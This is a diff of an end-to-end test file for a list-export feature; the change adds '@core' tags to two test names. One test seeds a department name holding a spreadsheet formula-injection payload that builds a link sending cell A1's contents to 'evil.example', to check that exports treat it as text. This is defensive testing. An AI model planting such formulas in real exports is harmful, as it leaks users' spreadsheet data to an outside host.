@@ -27,7 +27,7 @@ const saveBy = async (page: Page, click: () => Promise<void>) => {
 /** The same for a button of the panel. */
 const save = (page: Page, button: string) => saveBy(page, () => press(page, button))
 
-test('all rows of a list are exported with its search, filters, order and visible columns', async ({
+test('all rows of a list are exported with its search, filters, order and visible columns @core', async ({
   page,
   organization,
 }) => {
@@ -71,7 +71,7 @@ test('all rows of a list are exported with its search, filters, order and visibl
   expect(new Set(some.rows.slice(1).map((row) => row[1]))).toEqual(new Set(['suspended']))
 })
 
-test('a name that looks like a formula is exported as text', async ({ page, organization }) => {
+test('a name that looks like a formula is exported as text @core', async ({ page, organization }) => {
   const name = '=HYPERLINK("evil.example?"&A1,"Sales")'
   await organization.api('POST', '/department', { department_name: name })
   await organization.api('POST', '/department', { department_name: 'North; "East"' })
